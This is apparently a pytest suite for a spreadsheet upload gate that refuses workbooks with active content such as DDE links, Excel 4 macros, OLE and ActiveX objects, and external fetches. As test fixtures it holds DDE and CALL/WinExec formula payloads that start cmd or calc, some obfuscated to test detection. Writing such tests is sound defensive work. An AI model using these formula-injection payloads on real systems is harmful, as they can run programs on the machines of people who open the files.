"""Active content is refused by its name, and let in by that name alone."""

from dataclasses import replace

import pytest

from riskbook.edge import gate
from riskbook.errors import RefusedError

from .hostile import MAIN, listing, relations, types, with_rows, workbook

RELS = "xl/worksheets/_rels/sheet1.xml.rels"
LINK = "xl/externalLinks/externalLink1.xml"


def refused(data: bytes, name: str = "Register.xlsx", allow: str = "") -> str:
    limits = replace(gate.LIMITS, allow=frozenset(filter(None, [allow])))
    with pytest.raises(RefusedError) as caught:
        gate.admit(data, name, limits=limits)
    assert caught.value.what.endswith(".")
    assert caught.value.fix.endswith(".")
    return caught.value.what


def link(element: str) -> bytes:
    return workbook({LINK: f'<externalLink xmlns="{MAIN}"><{element}/></externalLink>'})


def named(attributes: str) -> bytes:
    names = f"<definedNames><definedName {attributes}>Risks!$A$1</definedName></definedNames>"
    return workbook(
        {
            "xl/workbook.xml": listing(("Risks", "rId1")).replace(
                "</workbook>", f"{names}</workbook>"
            )
        }
    )


def pointing(target: str, mode: str = "") -> bytes:
    """A picture whose relation does not say, or says in its own way, that it lies elsewhere."""
    related = relations(("image", target)).replace("/>", f"{mode}/>")
    return workbook({RELS: related})


def outside(kind: str) -> bytes:
    return workbook({RELS: relations((kind, "x.png")).replace("/>", ' TargetMode="External"/>')})


ACTIVE = [
    (link("externalBook"), "other workbooks", "reads its figures from another workbook"),
    (workbook({RELS: relations(("externalLink", "a"))}), "other workbooks", "another workbook"),
    (outside("xlPathMissing"), "other workbooks", "another workbook"),
    (link("oleLink"), "OLE objects", "objects of other programs"),
    (workbook({RELS: relations(("oleObject", "a.bin"))}), "OLE objects", "embedded files"),
    (workbook({RELS: relations(("package", "a.docx"))}), "OLE objects", "embedded files"),
    (workbook({"xl/embeddings/a.bin": b"x"}), "OLE objects", "embedded files"),
    (workbook({RELS: relations(("control", "a.xml"))}), "ActiveX controls", "ActiveX"),
    (workbook({"xl/activeX/activeX1.bin": b"x"}), "ActiveX controls", "ActiveX"),
    (workbook({RELS: relations(("queryTable", "a.xml"))}), "data connections", "connections"),
    (workbook({"xl/connections.xml": "<a/>"}), "data connections", "connections to other"),
    (workbook({"xl/model/item.data": b"x"}), "data model", "a data model (Power Pivot)"),
    (workbook({RELS: relations(("webextension", "a.xml"))}), "Office add-ins", "an Office add-in"),
    (outside("image"), "linked files", "fetches a picture or other file from elsewhere"),
    (pointing("x.png", ' TargetMode="external"'), "linked files", "fetches a picture"),
    (pointing("http://host/x.png"), "linked files", "fetches a picture"),
    (pointing("\\\\host\\share\\x.png"), "linked files", "fetches a picture"),
    (outside("anything"), "linked files", "fetches a picture or other file from elsewhere"),
    (named('name="Auto_Open"'), "Excel 4 macros", "macros of Excel 4"),
    (named('name="_xlnm.AUTO_CLOSE1"'), "Excel 4 macros", "macros of Excel 4"),
    (named('name="a" xlm="1"'), "Excel 4 macros", "macros of Excel 4"),
]


@pytest.mark.parametrize(("data", "name", "says"), ACTIVE)
def test_active_content_is_refused_unless_it_allows_it(data: bytes, name: str, says: str) -> None:
    assert says in refused(data)
    for other in set(gate.ALLOWABLE) - {name}:
        assert says in refused(data, allow=other)
    gate.admit(data, "Register.xlsx", limits=replace(gate.LIMITS, allow=frozenset([name])))


def test_a_dde_link_is_never_allowed() -> None:
    limits = replace(gate.LIMITS, allow=frozenset(gate.ALLOWABLE))
    with pytest.raises(RefusedError, match="DDE link, which can start any program"):
        gate.admit(link('ddeLink ddeService="cmd" ddeTopic="/c calc"'), "a.xlsm", limits=limits)


def test_a_macro_sheet_is_never_allowed_where_the_name_says_no_macros() -> None:
    sheet = '<Override PartName="/xl/m.xml" ContentType="application/vnd.ms-excel.macrosheet+xml"/>'
    data = workbook({"xl/m.xml": "<a/>", "[Content_Types].xml": types(sheet)})
    assert "holds macros" in refused(data, allow="Excel 4 macros")


@pytest.mark.parametrize(
    "kind", ["hyperlink", "drawing", "vmlDrawing", "ctrlProp", "comments", "pivotTable", "slicer"]
)
def test_what_waits_for_a_click_or_only_shows_is_admitted(kind: str) -> None:
    gate.admit(workbook({RELS: relations((kind, "a.xml"))}), "Register.xlsx")
    gate.admit(outside("hyperlink"), "Register.xlsx")


@pytest.mark.parametrize("state", ["hidden", "veryHidden"])
def test_hidden_sheets_are_admitted(state: str) -> None:
    book = listing(("Risks", "rId1")).replace("<sheet ", f'<sheet state="{state}" ')
    gate.admit(workbook({"xl/workbook.xml": book}), "Register.xlsx")


@pytest.mark.parametrize(
    ("kind", "root", "says"),
    [
        ("sharedStrings", "sst", "has no sst in its part xl/a.xml"),
        ("styles", "styleSheet", "has no styleSheet in its part xl/a.xml"),
    ],
)
def test_a_part_of_another_namespace_is_refused(kind: str, root: str, says: str) -> None:
    rels = relations(("worksheet", "worksheets/sheet1.xml"), (kind, "a.xml"))
    changes = {"xl/_rels/workbook.xml.rels": rels, "xl/a.xml": f'<{root} xmlns="urn:x"/>'}
    assert says in refused(workbook(changes))
    gate.admit(workbook({**changes, "xl/a.xml": f'<{root} xmlns="{MAIN}"/>'}), "Register.xlsx")


@pytest.mark.parametrize(
    ("part", "content", "says"),
    [
        ("xl/a.xml", f'<sst xmlns="{MAIN}"><x:si xmlns:x="urn:x"/></sst>', "a foreign <si>"),
        (
            "xl/a.xml",
            f'<styleSheet xmlns="{MAIN}"><cellXfs><x:xf xmlns:x="urn:x"/></cellXfs></styleSheet>',
            "a foreign <xf>",
        ),
        (
            "xl/workbook.xml",
            listing(("Risks", "rId1")).replace("</sheets>", '<sheet xmlns="urn:x"/></sheets>'),
            "a foreign <sheet>",
        ),
    ],
)
def test_foreign_elements_among_the_workbooks_own_are_refused(
    part: str, content: str, says: str
) -> None:
    assert says in refused(workbook({part: content}))


def test_a_part_that_hides_its_xml_behind_another_name_is_read_too() -> None:
    hidden = b'\xef\xbb\xbf<!DOCTYPE a [<!ENTITY b "c">]><a/>'
    assert "declares a document type" in refused(workbook({"xl/drawings/drawing1.bin": hidden}))
    gate.admit(workbook({"xl/a.txt": b"<no xml at all"}), "Register.xlsx")


def in_cell(formula: str, *, slowly: bool = False) -> bytes:
    """A formula in a cell; slowly: behind a comment, where every element is looked at."""
    cell = f'<row r="1"><c r="A1"><f>{formula}</f><v>1</v></c></row>'
    return with_rows(cell, before="<!-- -->" if slowly else "")


def behind_rows(element: str) -> bytes:
    return with_rows("", after=element)


DDE = "cmd|'/c calc'!A0"
LATER = "http://schemas.microsoft.com/office/spreadsheetml/2009/9/main"
EXCEL = "http://schemas.microsoft.com/office/excel/2006/main"
NEWER = f'<x:formula1 xmlns:x="{LATER}"><m:f xmlns:m="{EXCEL}">{DDE}</m:f></x:formula1>'


@pytest.mark.parametrize(
    "data",
    [
        in_cell(DDE),
        in_cell(DDE, slowly=True),
        in_cell(DDE.replace("|", "&#124;")),
        in_cell("'c\"md'|'/c \"'!A0"),
        in_cell('DDE("soffice","a","b")'),
        in_cell('"a"&amp;' + DDE),
        behind_rows(f"<dataValidation sqref='A1'><formula1>{DDE}</formula1></dataValidation>"),
        behind_rows(f"<cfRule><formula>{DDE}</formula></cfRule>"),
        behind_rows(f"<extLst><ext>{NEWER}</ext></extLst>"),
        workbook(
            {
                "xl/workbook.xml": listing(("Risks", "rId1")).replace(
                    "</workbook>",
                    f'<definedNames><definedName name="a">{DDE}</definedName></definedNames>'
                    "</workbook>",
                )
            }
        ),
    ],
)
def test_dde_in_a_formula_is_never_allowed(data: bytes) -> None:
    limits = replace(gate.LIMITS, allow=frozenset(gate.ALLOWABLE))
    with pytest.raises(RefusedError, match="DDE link, which can start any program"):
        gate.admit(data, "a.xlsx", limits=limits)


@pytest.mark.parametrize("slowly", [False, True])
@pytest.mark.parametrize(
    ("formula", "name", "says"),
    [
        ('_xlfn.WEBSERVICE("http://host/"&amp;B5)', "data connections", "fetches something"),
        ('_xlfn._xlws.IMAGE("http://host/a.png")', "data connections", "fetches something"),
        ('rtd ("a",,"b")', "data connections", "fetches something"),
        ('CALL("Kernel32","WinExec","JCJ","calc",0)', "Excel 4 macros", "calls another program"),
        ('REGISTER.ID("a","b")', "Excel 4 macros", "calls another program"),
        (r"'\\host\share\[b.xlsx]S'!A1", "other workbooks", "reads another file"),
        ("'file:///b.ods'#$S.A1", "other workbooks", "reads another file"),
        ("'[b.xlsx]S'!A1", "other workbooks", "reads another file"),
        ("[b.xlsx]S!A1", "other workbooks", "reads another file"),
        ("IF(A1=&quot;it's&quot;,'C:\\[b.xlsx]S'!A1)", "other workbooks", "reads another file"),
    ],
)
def test_a_formula_that_reaches_out_is_refused_unless_it_allows_it(
    formula: str, name: str, says: str, slowly: bool
) -> None:
    data = in_cell(formula, slowly=slowly)
    assert says in refused(data)
    gate.admit(data, "Register.xlsx", limits=replace(gate.LIMITS, allow=frozenset([name])))


@pytest.mark.parametrize("slowly", [False, True])
@pytest.mark.parametrize(
    "formula",
    [
        "'A|B'!A1",  # the name of a sheet
        '"83% | 17%"&amp;A1',
        'HYPERLINK("https://host/a","See [1]")',  # waits for a click
        '"call(1) \\ // file:"',
        "RECALL(1)+Call_1",
        "'" * 200_001,  # at once: each quotation mark is looked at once
        "'" * 200_000 + "x",
        "'Risks &apos;22:It''s'!A1",
        "SUM(Table1[[#This Row],[Cost [1]]])",
        "SUM(Table1[Cost '[£']])+SUM(Table1[A|B])",  # headings may hold anything
        "IFERROR(__xludf.DUMMYFUNCTION(&quot;IMAGE(&quot;&quot;a&quot;&quot;)&quot;),&quot;&quot;)",
    ],
)
def test_a_formula_that_reaches_nowhere_passes(formula: str, slowly: bool) -> None:
    gate.admit(in_cell(formula, slowly=slowly), "Register.xlsx")
